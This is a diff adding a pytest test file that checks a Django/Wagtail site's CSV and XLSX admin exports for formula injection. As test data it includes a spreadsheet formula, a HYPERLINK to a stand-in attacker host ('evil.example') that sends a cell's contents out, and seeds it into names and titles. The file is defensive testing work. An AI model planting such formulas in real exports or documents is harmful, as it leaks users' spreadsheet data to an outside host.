@@ -1,0 +1,96 @@
+"""No export opens as a formula in somebody's spreadsheet, whatever was typed at the desk and whoever exports it."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from typing import TYPE_CHECKING
+
+import pytest
+from django.conf import settings
+from django.test import Client
+from openpyxl import load_workbook
+
+from core.desk.spreadsheets import safe_rows
+from tests.factories.core import StandardPageFactory
+from tests.factories.helpline import ProgrammeFactory
+from tests.factories.network import MemberFactory
+from users.models import User
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+pytestmark = pytest.mark.django_db
+FORMULA = '=HYPERLINK("https://evil.example/"&A1,"Open, please")'
+# Wagtail's reports and lists that export, and ours. The report on who did what names everything that was ever published.
+EXPORTS = (
+    "/admin/reports/site-history/", "/admin/reports/aging-pages/", "/admin/reports/printed/", "/admin/pages/explorer/",
+    "/admin/snippets/helpline/programme/", "/admin/redirects/",
+)  # fmt: skip
+
+
+@pytest.fixture
+def administrator(home) -> Client:
+    """Somebody who has typed formulas wherever a name can be typed."""
+    user = User.objects.create_superuser("admin@example.org", first_name=FORMULA)
+    page = StandardPageFactory(parent=home, title=FORMULA, slug="formula")
+    page.save_revision(user=user, log_action=True).publish(user=user)
+    ProgrammeFactory(name=FORMULA)
+    MemberFactory(name=FORMULA)
+    client = Client(headers={"host": settings.DESK_HOST})
+    client.force_login(user)
+    return client
+
+
+def addresses(client: Client) -> Iterator[str]:
+    """Every list and report of the menu that offers a CSV file, whichever app or library it comes from."""
+    found = set(re.findall(r"/admin/[a-z/_-]*", client.get("/admin/").text))
+    for address in sorted({*found, *EXPORTS}):
+        page = client.get(address, follow=True)
+        if b"export=csv" in page.content:
+            yield page.request["PATH_INFO"]
+
+
+# wagtail-localize's report of translations has no order.
+@pytest.mark.filterwarnings("ignore:Pagination may yield inconsistent results")
+class TestExport:
+    def test_has_no_cell_that_opens_as_a_formula(self, administrator):
+        seen = 0
+        exported = set(addresses(administrator))
+        for address in exported:
+            body = b"".join(administrator.get(address, {"export": "csv"})).decode()
+            for row in csv.reader(io.StringIO(body, newline="")):
+                for cell in row:
+                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (address, cell)
+                    seen += cell == f"'{FORMULA}"
+        assert len(exported) >= 4, exported
+        assert seen >= 3
+
+    def test_has_none_in_a_workbook_either(self, administrator):
+        offered = [one for one in EXPORTS if "export=xlsx" in administrator.get(one, follow=True).text]
+        assert len(offered) >= 3
+        for address in offered:
+            book = load_workbook(
+                io.BytesIO(b"".join(administrator.get(address, {"export": "xlsx"}))), read_only=True
+            )
+            for row in book.active.iter_rows():
+                assert all(cell.data_type != "f" for cell in row), address
+
+
+class TestRows:
+    def test_are_the_same_apart_from_formulas(self):
+        chunks = [
+            b'Title,"Text\nin two lines"\r\n',
+            '"=1+1","é, \u202fß"\r\n'.encode(),
+            b'"a ""quoted"" one",7\r\n',
+        ]
+
+        assert "".join(safe_rows(chunks)) == (
+            'Title,"Text\nin two lines"\r\n' + "'=1+1" + ',"é, \u202fß"\r\n' + '"a ""quoted"" one",7\r\n'
+        )
+
+    def test_may_come_in_any_pieces(self):
+        whole = 'Name,"é\n=x"\r\n@cmd,-1\r\n'.encode()
+
+        assert list(safe_rows(bytes([byte]) for byte in whole)) == list(safe_rows([whole]))
